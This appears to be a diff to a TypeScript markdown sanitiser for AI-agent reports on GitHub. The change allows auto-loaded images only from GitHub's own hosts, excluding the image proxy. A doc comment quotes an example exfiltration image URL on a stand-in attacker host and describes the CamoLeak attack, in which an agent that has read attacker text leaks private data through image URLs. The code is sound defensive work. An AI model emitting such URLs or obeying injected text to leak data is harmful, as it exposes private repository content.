@@ -29,9 +29,16 @@ import {
  *   `<img>`, an unterminated comment) shows as the text it is and hides nothing. Tags are escaped, not
  *   removed: text in angle brackets is often no HTML at all (`data.<key>`, `Vec<String>`), and removing it
  *   would change what the text says;
- * - no requests to other hosts: links and images are kept only for `https:` URLs; others become their text
- *   (bare `http:`/`www.` URLs become code); reference-style links are resolved here and their definitions
- *   dropped, and every other `[`/`]` is escaped, so no link or image can form from leftovers;
+ * - no requests to other hosts: every image of a comment or summary is loaded, without a click, by everyone
+ *   who views it (through GitHub's image proxy), so an agent that read attacker text could send private text
+ *   out in an image's URL (`![x](https://attacker.example/p.png?d=…)`, the CamoLeak attack). An image is
+ *   kept only for an `https:` URL on GitHub's own hosts (`isGitHubImage`: github.com, `*.githubusercontent.com`
+ *   but the image proxy, and the GitHub server the text is shown on, `SanitizeOptions.serverUrl`); any other
+ *   `https:` image becomes a link that says it is one (`[image: x](https://…)`), followed only by a reader
+ *   who chooses to, or inside a link's text (a badge) that text alone. Links are kept only for `https:`
+ *   URLs. Other URLs become their text (bare `http:`/`www.` URLs become code); reference-style links are
+ *   resolved here and their definitions dropped, and every other `[`/`]` is escaped, so no link or image can
+ *   form from leftovers (nor from a `!` left before a link this module made: see `Pieces.resolve`);
  * - no invisible characters (zero-width, bidi controls, Unicode tags, variation-selector smuggling);
  * - no secrets (`redactText`, before and after the rewriting, since removing a comment can join two halves);
  * - no forged sticky-comment marker: `baton:report:` is rewritten wherever it appears, code included;
@@ -57,6 +64,12 @@ import {
 export interface SanitizeOptions {
   /** Secret values to redact, besides the token shapes `redactText` knows. */
   secrets?: readonly string[];
+  /**
+   * The URL of the GitHub server the text is shown on (the runner's `GITHUB_SERVER_URL`): images on its host
+   * (and port) are kept, besides those on github.com and githubusercontent.com. For GitHub Enterprise (a
+   * server of its own, or GHE.com); absent, or a URL that does not parse, adds no host.
+   */
+  serverUrl?: string;
 }
 
 /**
@@ -96,6 +109,7 @@ export function sanitizeMarkdown(
   secretsOrOptions: readonly string[] | SanitizeOptions = {},
 ): string {
   const options = normaliseOptions(secretsOrOptions);
+  const serverHost = hostOf(options.serverUrl);
   return untilRedactionFindsNothing(
     text,
     options,
@@ -112,7 +126,7 @@ export function sanitizeMarkdown(
         } else {
           // A token that forms only once a comment is removed is found by the check below, which sanitises
           // again; the marker's brackets are then escaped like any other text.
-          const prose = neutraliseMarker(sanitizeProse(segment.text, { tables: true }));
+          const prose = neutraliseMarker(sanitizeProse(segment.text, { tables: true, serverHost }));
           out.push(defuseFenceLines(prose));
         }
       }
@@ -145,12 +159,13 @@ export function sanitizeInline(
   secretsOrOptions: readonly string[] | SanitizeOptions = {},
 ): string {
   const options = normaliseOptions(secretsOrOptions);
+  const serverHost = hostOf(options.serverUrl);
   return untilRedactionFindsNothing(
     text,
     options,
     (input) => {
       const clean = joinLines(redact(removeInvisible(input), options));
-      return neutraliseMarker(sanitizeProse(clean, { tables: false })).trim();
+      return neutraliseMarker(sanitizeProse(clean, { tables: false, serverHost })).trim();
     },
     (rest) => inlineCode(rest, options),
   );
@@ -327,19 +342,37 @@ function infoString(info: string): string {
  */
 class Pieces {
   readonly #pieces: string[] = [];
+  /** For a piece that is a link standing for an image: its text alone, for use inside another link's text. */
+  readonly #plain = new Map<number, string>();
   /** Whether the text may hold GFM table rows (see `sanitizeProse`). */
   readonly tables: boolean;
-  constructor(tables: boolean) {
+  /** The host (and port) of the GitHub server whose images are kept besides GitHub's own, or null. */
+  readonly serverHost: string | null;
+  constructor(tables: boolean, serverHost: string | null) {
     this.tables = tables;
+    this.serverHost = serverHost;
   }
-  add(markdown: string): string {
+  add(markdown: string, plain?: string): string {
     this.#pieces.push(markdown);
+    if (plain !== undefined) this.#plain.set(this.#pieces.length - 1, plain);
     return `\u0000${this.#pieces.length - 1}\u0000`;
+  }
+  /**
+   * `text` (not yet finished) with each placeholder that has a plain form replaced by it: a link's text cannot
+   * hold another link (GitHub would keep the inner one and show the outer's brackets and URL as text).
+   */
+  plain(text: string): string {
+    if (this.#plain.size === 0) return text;
+    return text.replace(
+      /\u0000(\d+)\u0000/g,
+      (placeholder, n: string) => this.#plain.get(Number(n)) ?? placeholder,
+    );
   }
   /**
    * The text with every placeholder replaced by its piece. A piece that starts with a backtick or a
    * backslash gets a space before it when the output so far ends with one, which would otherwise merge with
-   * or escape its opening run.
+   * or escape its opening run; a piece that starts with `[` gets one after a `!`, which would make a link an
+   * image (`!![x](…)`: the second `!` made an image that became a link, the first is left).
    */
   resolve(text: string, depth = 0): string {
     const parts: string[] = [];
@@ -357,6 +390,7 @@ class Pieces {
       const raw = this.#pieces[Number(match[1])] ?? '';
       const piece = depth < 16 ? this.resolve(raw, depth + 1) : raw.replace(/\u0000/g, '');
       if (/^[`\\]/.test(piece) && (previous === '`' || previous === '\\')) write(' ');
+      else if (piece.startsWith('[') && previous === '!') write(' ');
       write(piece);
     }
     write(text.slice(last));
@@ -373,8 +407,8 @@ const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/;
  * pipe outside as `\|`. (Off for `sanitizeInline`, whose single line opens no table; `sanitizeTableCell`
  * escapes every pipe itself, and GFM reads `\|` inside a cell's code span as `|`.)
  */
-function sanitizeProse(text: string, mode: { tables: boolean }): string {
-  const pieces = new Pieces(mode.tables);
+function sanitizeProse(text: string, mode: { tables: boolean; serverHost: string | null }): string {
+  const pieces = new Pieces(mode.tables, mode.serverHost);
   let out = tokeniseCode(text, pieces);
   out = removeHtmlComments(out);
   // Any other HTML is left to escapeLeftovers, which makes every `<` text.
@@ -546,13 +580,16 @@ function replaceLinks(text: string, find: (text: string, open: number, image: bo
 /**
  * Links and images. Reference definitions are collected and removed (so none reaches the output, where it
  * could serve a reference elsewhere in the report); references are resolved against them here; inline
- * links and images are rebuilt when the URL is https and become their text otherwise.
+ * links are rebuilt when the URL is https and become their text otherwise; images are rebuilt when the URL
+ * is https on GitHub's own hosts (`isGitHubImage`), become a link saying they are images when it is https
+ * elsewhere, and their text otherwise.
  */
 function rewriteLinks(text: string, pieces: Pieces): string {
   const definitions = new Map<string, string>();
   let out = removeDefinitions(text, definitions);
   const build = (image: boolean, inner: string, url: string | undefined) => {
-    const safe = url === undefined ? null : safeHttpsUrl(url.replace(/^<|>$/g, ''));
+    const parsed = url === undefined ? null : parseHttpsUrl(url.replace(/^<|>$/g, ''));
+    const safe = parsed && destination(parsed);
     const label = rewriteLinks(inner, pieces);
     if (safe && isIssueUrl(safe)) {
       // The text, and the URL as code: readable, and no reference.
@@ -561,9 +598,14 @@ function rewriteLinks(text: string, pieces: Pieces): string {
     }
     if (image) {
       const alt = label.trim() === '' ? 'image' : label;
-      return safe ? pieces.add(`![${finishText(alt, pieces)}](${safe})`) : alt;
+      if (!parsed || !safe) return alt;
+      if (isGitHubImage(parsed, pieces.serverHost))
+        return pieces.add(`![${finishText(alt, pieces)}](${safe})`);
+      // Loaded by nobody: a link the reader may follow, or the text alone inside another link's text.
+      const text = pieces.plain(label.trim() === '' ? 'image' : `image: ${label}`);
+      return pieces.add(`[${finishText(text, pieces)}](${safe})`, text);
     }
-    return safe ? pieces.add(`[${finishText(label, pieces)}](${safe})`) : label;
+    return safe ? pieces.add(`[${finishText(pieces.plain(label), pieces)}](${safe})`) : label;
   };
   const index = new CharIndex(out);
   out = replaceLinks(out, (text, open, image) => {
@@ -625,6 +667,12 @@ function normaliseLabel(label: string): string {
  * or start a code span are percent-encoded.
  */
 export function safeHttpsUrl(raw: string): string | null {
+  const url = parseHttpsUrl(raw);
+  return url && destination(url);
+}
+
+/** `raw` parsed as the WHATWG URL parser (a browser's) reads it, when it is https with a host and no userinfo. */
+function parseHttpsUrl(raw: string): URL | null {
   if (!/^https:\/\//i.test(raw)) return null;
   let url: URL;
   try {
@@ -634,10 +682,55 @@ export function safeHttpsUrl(raw: string): string | null {
   }
   if (url.protocol !== 'https:' || url.hostname === '' || url.username !== '' || url.password !== '')
     return null;
+  return url;
+}
+
+/** A parsed URL as written into a link destination: characters that could end it early percent-encoded. */
+function destination(url: URL): string {
   return url.href.replace(
     /[^A-Za-z0-9\-._~:/?#@!$&'*+,;=%]/g,
     (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`,
   );
+}
+
+/** The host GitHub serves its own files from (raw, user-images, private-user-images, avatars, …). */
+const GITHUB_CONTENT_SUFFIX = '.githubusercontent.com';
+/**
+ * GitHub's image proxy: it fetches whatever URL a signed address names, and anyone can have GitHub sign one
+ * (by posting an image anywhere on GitHub), so an image there is a request to any host (the CamoLeak attack).
+ */
+const GITHUB_IMAGE_PROXY = 'camo.githubusercontent.com';
+
+/**
+ * Whether an image at `url` (https, no userinfo) is shown as an image: only when its host is GitHub's own,
+ * which keeps no log of who fetched what for the agent's writer to read. github.com and the hosts under
+ * githubusercontent.com but the image proxy, on the default port; and the host and port of the GitHub server
+ * the report is for. Hosts are compared as the URL parser wrote them (lower case, punycode, no userinfo), and
+ * exactly or at a dot: neither `evilgithub.com`, `github.com.evil.example` nor `github.com.` (a trailing dot)
+ * is GitHub's.
+ */
+function isGitHubImage(url: URL, serverHost: string | null): boolean {
+  if (serverHost !== null && url.host === serverHost) return true;
+  if (url.port !== '') return false;
+  const host = url.hostname;
+  if (host === 'github.com') return true;
+  return (
+    host.endsWith(GITHUB_CONTENT_SUFFIX) &&
+    host !== GITHUB_IMAGE_PROXY &&
+    // Whole labels before the suffix: not `.githubusercontent.com` or `a..githubusercontent.com`.
+    !host.slice(0, -GITHUB_CONTENT_SUFFIX.length).split('.').includes('')
+  );
+}
+
+/** The host and port of the GitHub server's URL (as `URL#host` gives them), or null when it does not parse. */
+function hostOf(serverUrl: string | undefined): string | null {
+  if (!serverUrl) return null;
+  try {
+    const host = new URL(serverUrl).host;
+    return host === '' ? null : host;
+  } catch {
+    return null;
+  }
 }
 
 /** The path segments GitHub reads as an issue, a pull request or a discussion when a number follows. */
